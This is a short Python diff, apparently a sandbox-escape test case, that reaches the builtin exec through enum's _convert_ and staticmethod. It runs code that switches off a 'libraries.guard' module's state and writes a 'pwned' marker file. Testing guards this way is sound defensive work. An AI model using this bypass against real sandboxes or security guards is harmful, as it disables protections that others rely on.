@@ -1,0 +1,19 @@
+"""file: a static method may be called by itself."""
+
+import enum
+
+CODE = """\
+import sys
+for n, m in [*sys.modules.items()]:
+    if n.endswith("libraries.guard"):
+        m._State["on"] = False
+open("pwned_converted_members_static", "w").close()
+"""
+
+
+class Kind(enum.Enum):
+    pass
+
+
+Found = Kind._convert_("Found", "builtins", lambda name: name == "exec")
+x = staticmethod(Found["exec"].value)(CODE)
